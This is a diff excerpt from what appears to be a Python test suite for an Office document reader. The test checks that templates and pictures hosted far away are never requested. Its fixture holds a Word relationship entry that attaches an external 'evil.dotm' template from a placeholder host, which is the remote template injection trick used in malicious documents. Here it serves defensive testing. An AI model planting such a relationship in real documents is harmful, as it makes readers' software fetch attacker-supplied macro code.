@@ -101,7 +101,7 @@ def test_macros_never_run_and_that_is_said():
 
 
 def test_templates_and_pictures_far_away_are_not_asked_for():
-    parts = unpack(blank(MODEL, 2026))
+    parts = unpack(drawn(example(MODEL, 2)).data)
     far = (
         '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
         ' Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/>'
